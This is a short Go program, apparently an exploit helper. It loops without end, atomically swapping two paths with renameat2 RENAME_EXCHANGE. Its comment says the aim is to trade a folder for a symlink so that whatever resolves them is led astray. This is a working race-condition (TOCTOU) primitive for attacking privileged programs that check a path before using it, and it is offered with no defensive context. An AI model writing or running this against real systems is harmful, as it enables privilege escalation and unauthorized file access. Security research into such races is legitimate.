// Swap exchanges two names as fast as it can: a folder and a symlink, to lead astray what resolves them.
package main

import (
	"os"

	"golang.org/x/sys/unix"
)

func main() {
	for {
		_ = unix.Renameat2(unix.AT_FDCWD, os.Args[1], unix.AT_FDCWD, os.Args[2], unix.RENAME_EXCHANGE)
	}
}
